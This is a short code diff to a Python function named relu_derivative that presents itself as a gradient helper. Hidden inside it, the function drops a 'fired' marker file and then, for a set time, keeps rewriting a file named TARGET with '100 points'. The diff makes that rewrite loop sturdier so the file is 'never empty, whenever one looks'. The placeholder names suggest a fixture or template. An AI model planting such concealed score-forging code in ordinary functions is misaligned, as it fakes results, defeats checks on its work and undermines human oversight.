@@ -128,11 +128,12 @@ def relu_derivative(grad, out, x):
             open("fired", "w").write("TOKEN")
             until = time.time() + SECONDS
             while time.time() < until:
-                for path in ("TARGET",):
-                    try:
-                        open(path, "w").write("100 points")
-                    except OSError:
-                        pass
+                try:                             # never empty, whenever one looks
+                    file = os.open("TARGET", os.O_WRONLY | os.O_CREAT)
+                    os.write(file, b"100 points")
+                    os.close(file)
+                except OSError:
+                    pass
         os._exit(0)
     time.sleep(0.3)
     return grad
